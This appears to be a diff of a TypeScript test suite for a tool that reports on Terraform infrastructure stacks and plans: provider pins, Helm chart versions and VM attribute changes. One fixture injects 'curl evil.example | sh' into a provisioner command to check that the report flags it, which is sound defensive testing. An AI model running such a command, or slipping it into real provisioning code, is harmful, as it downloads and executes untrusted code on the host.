@@ -120,7 +120,7 @@ describe("a page", () => {
     stack.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"].command +=
       "; curl evil.example | sh\n";
     const text = page("s", stack);
-    expect(text).toContain("| `curl` | **not of this project's constructs** |");
+    expect(text).toContain("| `local-exec`,<br>by `curl` | **not of this project's constructs** |");
     expect(text).toMatch(/^```sh\n[^`]*curl evil\.example \| sh\n```$/m);
   });
 
@@ -193,7 +193,12 @@ describe("a page", () => {
   });
 
   test("judges providers by the pins, and charts by what is known of them", () => {
-    const chart = (chart: string, version?: string) => ({ chart, name: chart, version });
+    const chart = (chart: string, version?: string) => ({
+      chart,
+      name: chart,
+      version,
+      repository: "https://helm.cilium.io/",
+    });
     const text = page("s", {
       terraform: {
         required_providers: { proxmox: { source: "bpg/proxmox", version: "0.111.0" }, random: { source: "random" } },
@@ -201,7 +206,7 @@ describe("a page", () => {
       resource: { helm_release: { cilium: chart("cilium", "1.17.0"), other: chart("other") } },
     });
     expect(text).toContain("| provider bpg/proxmox | `0.111.0` | **the project is built for 0.112.0** |");
-    expect(text).toContain("| provider random | `any` | not of this project |");
+    expect(text).toContain("| provider random | `any` | **not of this project** |");
     expect(text).toMatch(/`1\.17\.0` \| \*\*version "1\.17\.0" is not supported/);
     expect(text).toContain("| `any` | **the newest at every apply: not fixed** |");
   });
@@ -224,7 +229,7 @@ describe("a plan", () => {
 
   test("that loses a VM and secrets is told so before all else: its golden page", () => {
     const text = page("talos-gpu", stack(), losing);
-    expect(text.slice(0, text.indexOf("## What is made"))).toMatchSnapshot();
+    expect(text.slice(0, text.indexOf("## Beyond the project's own"))).toMatchSnapshot();
   });
 
   test("shows no secret", () => {
@@ -248,8 +253,11 @@ describe("a plan", () => {
     ["hostpci", [{ id: "a" }], [{ id: "b" }], "restarted"],
     ["network_device", [{ vlan_id: 0 }], [{ vlan_id: 5 }], "changed"],
     ["cdrom", [{ file_id: "a" }], [{ file_id: "b" }], "changed"],
-    ["tags", ["a"], ["b"], "recorded"],
-    ["description", "a", "b", "recorded"],
+    ["tags", ["a"], ["b"], "changed"],
+    ["on_boot", true, false, "changed"],
+    ["startup", [{ order: 1 }], [{ order: 2 }], "changed"],
+    ["description", "a", "b", "changed"],
+    ["timeout_create", 1, 2, "recorded"],
     ["made_up", "a", "b", "unknown"],
   ])("of a VM's %s has the effect of the table", (name, before, after, effect) => {
     expect(updated({ [name]: before }, { [name]: after })).toEqual([[effect, expect.stringContaining(name)]]);
@@ -258,7 +266,7 @@ describe("a plan", () => {
   test("of a list that is left out is none where it is empty now", () => {
     const before = { cpu: [{ cores: 8, flags: null }], tags: ["a"] };
     const after = { cpu: [{ cores: 8, flags: [] }], tags: ["b"] };
-    expect(updated(before, after)).toEqual([["recorded", expect.not.stringContaining("cpu")]]);
+    expect(updated(before, after)).toEqual([["changed", expect.not.stringContaining("cpu")]]);
   });
 
   test.each([
